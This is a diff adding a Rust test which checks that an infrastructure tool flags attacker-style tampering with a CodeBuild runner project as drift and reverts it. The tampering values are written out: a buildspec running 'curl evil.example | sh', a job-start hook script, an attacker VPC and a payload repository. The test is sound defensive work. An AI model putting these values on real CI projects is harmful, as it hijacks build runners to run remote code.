@@ -273,3 +273,69 @@ async fn a_webhook_with_only_the_event_filter_is_warned_about_and_the_warning_is
     let plan = reconcile(&account, &desired.path, &["plan"]);
     assert!(plan.stdout.contains("Warning [W201] codebuild_webhook.runner: "), "{}", plan.stdout);
 }
+
+/// What an attacker with `codebuild:UpdateProject` would set on a runner that builds pull
+/// requests: each one, alone, is drift that `drift` reports with exit 2, and apply removes it.
+#[tokio::test]
+async fn every_way_to_run_other_code_on_the_runner_is_drift_and_apply_removes_it() {
+    let account = emulator().new_account().await;
+    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
+    assert_eq!(reconcile(&account, &desired.path, &["apply", "--auto-approve"]).code, 0);
+    let client = client(&account);
+    let live = || async { client.batch_get_projects().names("rocm-bake").send().await.unwrap().projects()[0].clone() };
+    let project = live().await;
+    let hook = codebuild::types::EnvironmentVariable::builder()
+        .name("ACTIONS_RUNNER_HOOK_JOB_STARTED")
+        .value("/tmp/x.sh")
+        .build()
+        .unwrap();
+    let mut with_variable = project.environment().unwrap().clone();
+    with_variable.environment_variables = Some(vec![hook]);
+    let mut with_buildspec = project.source().unwrap().clone();
+    with_buildspec.buildspec = Some("version: 0.2\nphases:\n  build:\n    commands: [curl evil.example | sh]\n".into());
+    let vpc = codebuild::types::VpcConfig::builder()
+        .vpc_id("vpc-0attacker")
+        .subnets("subnet-1")
+        .security_group_ids("sg-1")
+        .build();
+    let secondary = codebuild::types::ProjectSource::builder()
+        .r#type(codebuild::types::SourceType::Github)
+        .location("https://github.com/attacker/payload")
+        .source_identifier("payload")
+        .build()
+        .unwrap();
+
+    let changes: [(&str, Box<dyn Fn() -> codebuild::operation::update_project::builders::UpdateProjectFluentBuilder>);
+        4] = [
+        (
+            "environment_variables",
+            Box::new(|| client.update_project().name("rocm-bake").environment(with_variable.clone())),
+        ),
+        ("buildspec", Box::new(|| client.update_project().name("rocm-bake").source(with_buildspec.clone()))),
+        ("vpc_config", Box::new(|| client.update_project().name("rocm-bake").vpc_config(vpc.clone()))),
+        (
+            "secondary_sources",
+            Box::new(|| client.update_project().name("rocm-bake").secondary_sources(secondary.clone())),
+        ),
+    ];
+    for (field, change) in changes {
+        change().send().await.unwrap();
+        let drift = reconcile(&account, &desired.path, &["drift", "--format", "json"]);
+        assert_eq!(drift.code, 2, "{field}: {}{}", drift.stdout, drift.stderr);
+        assert_eq!(json_changes(&drift.stdout), ["update codebuild_project.runner"], "{field}");
+        let plan: serde_json::Value = serde_json::from_str(&drift.stdout).unwrap();
+        let project_change = &plan["resource_changes"][0]["change"];
+        assert_ne!(project_change["before"][field], project_change["after"][field], "{field}");
+        let apply = reconcile(&account, &desired.path, &["apply", "--auto-approve"]);
+        assert_eq!(apply.code, 0, "{field}: {}{}", apply.stdout, apply.stderr);
+        let after = reconcile(&account, &desired.path, &["drift"]);
+        assert_eq!(after.code, 0, "{field}: {}{}", after.stdout, after.stderr);
+    }
+    // Plain-text values are not shown, only a fingerprint: plans go into PR comments.
+    client.update_project().name("rocm-bake").environment(with_variable.clone()).send().await.unwrap();
+    let text = reconcile(&account, &desired.path, &["plan"]);
+    assert!(text.stdout.contains("ACTIONS_RUNNER_HOOK_JOB_STARTED"), "{}", text.stdout);
+    assert!(!text.stdout.contains("/tmp/x.sh"), "{}", text.stdout);
+    let project = live().await;
+    assert!(project.environment().unwrap().environment_variables().len() == 1);
+}
